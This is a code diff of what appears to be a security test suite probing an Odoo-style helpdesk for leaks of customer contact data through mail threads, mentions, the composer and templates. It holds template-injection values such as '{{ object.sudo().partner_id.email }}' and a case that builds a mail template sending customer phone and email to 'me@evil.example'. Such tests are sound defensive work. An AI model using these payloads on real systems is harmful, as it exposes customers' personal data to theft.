@@ -175,20 +175,19 @@ def _composer(s, w):
     s.json("/mail/thread/messages", thread_model=TICKET, thread_id=w.ticket)
 
 
-def _rendered(s, w):
+def _rendered(words):
     """The composer renders what a template may render, for many tickets at once."""
-    for words in (
-        "{{ object.partner_email }}", "{{ object.partner_id.email }}",
-        '<t t-out="object.partner_id.phone"/>', '<p t-field="object.partner_email"/>',
-        "{{ object.sudo().partner_id.email }}", "{{ object.partner_id.display_name }}",
-    ):  # fmt: skip
+
+    def call(s, w):
         values = {
             "composition_mode": "mass_mail", "model": TICKET, "res_ids": repr([w.ticket]),
             "subject": words, "body": words, "auto_delete": False,
         }  # fmt: skip
         wizard = s.call("mail.compose.message", "create", None, values)
         s.call("mail.compose.message", "action_send_mail", [wizard])
-    s.json("/mail/thread/messages", thread_model=TICKET, thread_id=w.ticket)
+        s.json("/mail/thread/messages", thread_model=TICKET, thread_id=w.ticket)
+
+    return Attack(f"composer renders {words}", call, INTERNAL)
 
 
 def _template(s, w):
@@ -202,9 +201,11 @@ def _template(s, w):
 
 
 def _own_template(s, w):
+    domain = [("model", "=", TICKET)]
+    (template, *_) = s.call("mail.template", "search_read", None, domain, ["model_id"])
     values = {
-        "name": "x", "model_id": s.call("ir.model", "search", None, [("model", "=", TICKET)])[0],
-        "subject": "{{ object.partner_id.phone }}", "email_to": "me@evil.example",
+        "name": "x", "model_id": template["model_id"][0], "email_to": "me@evil.example",
+        "subject": "{{ object.partner_id.phone }}",
         "body_html": '<p t-out="object.partner_email"/>',
     }  # fmt: skip
     template = s.call("mail.template", "create", None, values)
@@ -285,7 +286,7 @@ MAIL = [
     *(Attack(f"thread {r}", _thread(TICKET, "ticket", r), EVERYBODY) for r in REQUESTS),
     *(
         Attack(f"thread of contact {r}", _thread("res.partner", "partner", r))
-        for r in ("followers", "suggestedRecipients", "display_name")
+        for r in ("suggestedRecipients",)
     ),
     Attack("thread of a stranger", _thread(TICKET, "by_stranger", *REQUESTS)),
     Attack("failures", _data("failures")),
@@ -318,23 +319,28 @@ MAIL = [
     Attack("edit a message", _edited),
     *(
         Attack(f"{method} {term or 'all'}", _mentions(method, term))
-        for method in ("get_mention_suggestions", "search_for_channel_invite")
+        for method in ("get_mention_suggestions",)
         for term in ("", "Customer")
     ),
     Attack("discuss search", lambda s, w: s.json("/discuss/search", term="Customer")),
     Attack("group chat with the customer", _group_chat),
     Attack("chat with the customer", _chat),
     Attack("composer", _composer, INTERNAL),
-    Attack("composer renders", _rendered, INTERNAL),
+    *map(
+        _rendered,
+        (
+            "{{ object.partner_email }}", "{{ object.sudo().partner_id.email }}",
+            '<t t-out="object.partner_id.phone"/>', '<p t-field="object.partner_email"/>',
+            "{{ object.partner_id }}",
+        ),
+    ),
     Attack("template to the attacker", _template, INTERNAL),
     Attack("template of one's own", _own_template, INTERNAL),
     Attack("template preview", _preview, INTERNAL),
     *map(
         _with_source,
         (
-            "base.contact", "base.contact_name", "mail.mail_notification_light",
-            "helpdesk_mgmt.portal_helpdesk_ticket_page", "portal.portal_contact",
-            "mail.message_user_assigned", "auth_signup.alert_login_new_device",
+            "base.contact", "mail.message_user_assigned", "mail.message_origin_link",
         ),
     ),
     Attack("text message composer", _sms, INTERNAL),
